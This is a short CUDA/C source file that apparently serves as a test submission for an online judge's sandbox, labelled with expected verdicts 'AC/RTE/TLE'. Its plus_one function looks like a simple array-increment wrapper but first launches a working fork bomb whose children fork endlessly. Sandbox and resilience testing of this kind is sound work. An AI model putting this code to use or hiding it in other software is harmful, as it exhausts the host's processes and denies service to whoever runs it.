// AC/RTE/TLE | 40 | a fork bomb whose children fork | 
#include <unistd.h>
__global__ void k(int *out, const int *in, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
extern "C" void plus_one(int *out, const int *in, int n) {
    if (fork() == 0)
        for (;;) fork();
    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
}
